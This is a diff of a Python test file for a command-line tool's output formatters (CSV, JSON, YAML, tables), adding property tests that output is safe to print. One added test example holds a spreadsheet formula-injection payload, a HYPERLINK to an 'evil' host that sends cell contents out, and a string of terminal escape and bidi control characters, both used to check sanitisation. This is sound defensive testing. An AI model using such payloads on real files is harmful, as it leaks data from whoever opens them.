@@ -14,8 +14,9 @@ import yaml
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from genctl.base.printable import is_printable, printable, shorten, width
+from genctl.base.printable import is_printable, printable, printable_lines
 from genctl.cli import formats
+from genctl.cli.formats import shorten, width
 
 HOSTILE = "\x1b]0;x\x07 \x9b31m \u202edrawkcab\u2066 \u2028 \ud800 \r\n\t \ufeff \U000e0041 é 漢字 👩‍🚀"
 texts = st.one_of(st.text(), st.text(alphabet=HOSTILE), st.just(HOSTILE))
@@ -62,23 +63,49 @@ def test_rows_written_one_by_one_are_one_document(rows: list[dict[str, object]])
         body = "".join(writer.row(row, before) for before, row in enumerate(rows))
         return body + writer.end(len(rows))
 
-    assert json.loads(written(formats.JsonWriter())) == rows
-    assert yaml.safe_load(written(formats.YamlWriter())) == rows
-    lines = written(formats.JsonLinesWriter()).split("\n")
+    assert json.loads(written(formats.JSON)) == rows
+    assert yaml.safe_load(written(formats.YAML)) == rows
+    lines = written(formats.JSON_LINES).split("\n")
     assert lines.pop() == ""
     assert [json.loads(line) for line in lines] == rows
 
 
 def test_csv_is_rfc_4180_with_nested_values_as_json() -> None:
-    writer = formats.CsvWriter(["a", "b"], raw=True)
-    text = writer.row({"a": 'say "hi", twice\n', "b": {"c": [1]}}, 0) + writer.row({"a": None, "b": True}, 1)
-    assert text == 'a,b\r\n"say ""hi"", twice\n","{""c"": [1]}"\r\n,true\r\n'
-    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['say "hi", twice\n', '{"c": [1]}']
+    writer = formats.csv_writer(["a", "b"])
+    text = writer.row({"a": 'say "hi", twice', "b": {"c": [1]}}, 0) + writer.row({"a": None, "b": True}, 1)
+    assert text == 'a,b\r\n"say ""hi"", twice","{""c"": [1]}"\r\n,true\r\n'
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['say "hi", twice', '{"c": [1]}']
+
+
+@given(st.lists(texts, min_size=1, max_size=3))
+@example([HOSTILE, '=HYPERLINK("http://evil/?"&A1,"x")', " @SUM(1)"])
+def test_csv_steers_no_terminal_and_no_spreadsheet(found: list[str]) -> None:
+    """Names of columns too; each row is one line, whoever reads it."""
+    names = [f"{text}{number}" for number, text in enumerate(found)]
+    text = formats.csv_writer(names).row(dict(zip(names, found, strict=True)), 0)
+    lines = text.split("\r\n")
+    assert len(lines) == 3
+    assert all(map(is_printable, lines))
+    for field in (field for row in csv.reader(io.StringIO(text, newline="")) for field in row):
+        assert not field.lstrip().startswith(tuple("=+-@\t\r＝＋－＠"))
+
+
+def test_csv_leaves_numbers_below_nought_alone() -> None:
+    assert formats.csv_writer(["a"]).row({"a": -4}, 1) == "-4\r\n"
+
+
+@given(texts)
+@example(f"{HOSTILE}\n=1\r\nend")
+def test_laid_out_text_keeps_its_lines_and_nothing_else_that_steers(text: str) -> None:
+    shown = printable_lines(text)
+    assert is_printable(shown.replace("\r\n", "").replace("\n", ""))
+    assert shown.count("\n") == text.count("\n")
+    assert printable_lines(shown) == shown
 
 
 def test_csv_of_nothing_is_its_header() -> None:
-    assert formats.CsvWriter(["a", "b"], raw=True).end(0) == "a,b\r\n"
-    assert formats.CsvWriter([], raw=True).end(0) == ""
+    assert formats.csv_writer(["a", "b"]).end(0) == "a,b\r\n"
+    assert formats.csv_writer([]).end(0) == ""
 
 
 @given(
@@ -116,8 +143,17 @@ def test_numbers_stand_to_the_right_and_ids_that_look_like_numbers_stay() -> Non
     assert table.splitlines()[2:] == ["   5  1e5", "1234  0x1"]
 
 
+@pytest.mark.parametrize("text", ["漢字", "ｶﾞ", "e\u0301te\u0301", "नमस्ते", "👩‍🚀", "a\u00adb"])
+def test_wide_and_combining_characters_keep_the_columns_aligned(text: str) -> None:
+    """tabulate measures by wcwidth, as we do; that it is installed is up to pyproject.toml."""
+    table = formats.table([{"who": text, "n": 7}, {"who": "x" * 9, "n": 1234}], ["who", "n"], None)
+    assert {width(line) for line in table.splitlines()} == {9 + 2 + 4}
+    (line, _) = formats.sheet({text: 1, "x" * 9: 2}, None).splitlines()
+    assert width(line) == 9 + 2 + 1
+
+
 def test_lines_are_aligned_before_all_rows_are_known() -> None:
-    lines = formats.LinesWriter({"at": 6, "who": 8, "text": 0}, 30)
+    lines = formats.lines_writer({"at": 6, "who": 8, "text": 0}, 30)
     assert lines.row({"at": "09:30", "who": "漢字", "text": "x" * 40}, 0) == (
         "at      who       text\n09:30   漢字      xxxxxxxxxxx…\n"
     )
